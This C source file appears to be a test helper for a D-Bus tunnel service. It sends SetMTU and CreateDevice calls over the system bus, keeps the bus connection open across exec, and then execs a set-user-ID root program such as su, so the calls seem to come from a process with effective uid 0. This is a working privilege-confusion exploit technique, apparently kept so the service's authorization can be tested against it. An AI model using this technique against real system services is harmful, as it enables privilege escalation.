/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* For test-attack, run as an unprivileged test user:
 *
 *     attack-exec-caller DEVICE-PATH NAME PROGRAM [ARGUMENTS...]
 *
 * Prints its unique bus name, sends tund, over $DBUS_SYSTEM_BUS_ADDRESS, SetMTU 1280 on
 * DEVICE-PATH and CreateDevice NAME without waiting for the answers, then execs PROGRAM (a set-user-ID root program that
 * waits, such as su) with the bus connection still open: the sender of those calls is then
 * a process whose effective uid is 0, though the bus knows the connection as the user's. */

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <systemd/sd-bus.h>
#include <unistd.h>

static int send_call(sd_bus *bus, const char *path, const char *iface, const char *member,
                     const char *name) {
        sd_bus_message *m = NULL;
        int r;

        r = sd_bus_message_new_method_call(bus, &m, "org.example.Tun1", path, iface, member);
        if (r >= 0)
                r = name ? sd_bus_message_append(m, "sa{sv}", name, 0) : sd_bus_message_append(m, "u", 1280u);
        if (r >= 0)
                r = sd_bus_send(bus, m, NULL);
        sd_bus_message_unref(m);
        return r;
}

int main(int argc, char **argv) {
        sd_bus *bus = NULL;
        int r, fd;

        if (argc < 4) {
                fprintf(stderr, "Usage: %s DEVICE-PATH NAME PROGRAM [ARGUMENTS...]\n", argv[0]);
                return EXIT_FAILURE;
        }
        r = sd_bus_open_system(&bus);
        const char *unique = NULL;
        if (r >= 0)
                r = sd_bus_get_unique_name(bus, &unique);
        if (r >= 0) {
                printf("%s\n", unique);
                fflush(stdout);
                r = send_call(bus, argv[1], "org.example.Tun1.Device", "SetMTU", NULL);
        }
        if (r >= 0)
                r = send_call(bus, "/org/example/Tun1", "org.example.Tun1.Manager", "CreateDevice", argv[2]);
        if (r >= 0)
                r = sd_bus_flush(bus);
        if (r >= 0)
                r = fd = sd_bus_get_fd(bus);
        if (r < 0) {
                fprintf(stderr, "attack-exec-caller: %s\n", strerror(-r));
                return EXIT_FAILURE;
        }
        /* The connection outlives the exec: PROGRAM holds it without knowing. */
        if (fcntl(fd, F_SETFD, 0) < 0) {
                perror("attack-exec-caller: fcntl");
                return EXIT_FAILURE;
        }
        execv(argv[3], argv + 3);
        perror("attack-exec-caller: execv");
        return EXIT_FAILURE;
}
